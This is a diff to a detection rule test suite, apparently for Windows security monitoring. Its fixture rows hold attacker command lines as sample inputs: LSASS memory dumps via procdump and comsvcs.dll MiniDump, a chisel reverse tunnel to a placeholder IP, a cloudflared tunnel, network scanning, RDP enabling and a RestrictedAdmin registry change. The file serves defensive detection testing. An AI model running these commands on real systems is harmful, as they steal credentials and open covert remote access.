@@ -471,7 +471,10 @@ const signs: Partial<Record<DetectionId, Row[]>> = {
 		['by command', run('reg.exe add x /v fDenyTSConnections /d 0'), {}],
 		['for the firewall by command', run('netsh.exe firewall set service remotedesktop enable'), {}],
 	],
+	discovery: [['a scanner of 64 bit', run('netscan64.exe'), {}]],
 	'rdp-tunnel': [
+		['as it is downloaded', run('chisel_1.9.1_windows_amd64.exe client 203.0.113.5:443 R:socks'), {}],
+		['of Cloudflare', run('cloudflared-windows-amd64.exe tunnel run --token x'), {}],
 		[
 			'in the audit log',
 			security(5156, {
@@ -647,6 +650,13 @@ const signs: Partial<Record<DetectionId, Row[]>> = {
 		['the end of another', unnamed('Microsoft-Windows-ProcessExitMonitor', 3001, 'x.exe'), undefined],
 		['by command', run('procdump.exe -ma lsass.exe'), {}],
 		['by a library', run('rundll32.exe comsvcs.dll, MiniDump lsass'), {}],
+		[
+			'by its number',
+			run('rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t.bin full'),
+			{},
+		],
+		['by the number of the function', run('rundll32.exe comsvcs.dll,#24 624 C:\\t.bin full'), {}],
+		['another function of the library', run('rundll32.exe comsvcs.dll,#240'), undefined],
 	],
 	'ntds-copy': [
 		[
@@ -895,6 +905,20 @@ const signs: Partial<Record<DetectionId, Row[]>> = {
 		['added', security(4719, { AuditPolicyChanges: '%%8449', ...changed }), undefined],
 	],
 	'settings-weakened': [
+		[
+			'in PowerShell',
+			powershell(
+				'Set-ItemProperty HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Lsa -Name DisableRestrictedAdmin -Value 0',
+			),
+			{},
+		],
+		[
+			'back in PowerShell',
+			powershell(
+				'Set-ItemProperty HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Lsa -Name DisableRestrictedAdmin -Value 1',
+			),
+			undefined,
+		],
 		['questions off', registry('x\\ConsentPromptBehaviorAdmin', '0x0'), { level: 'medium' }],
 		[
 			'passwords kept',
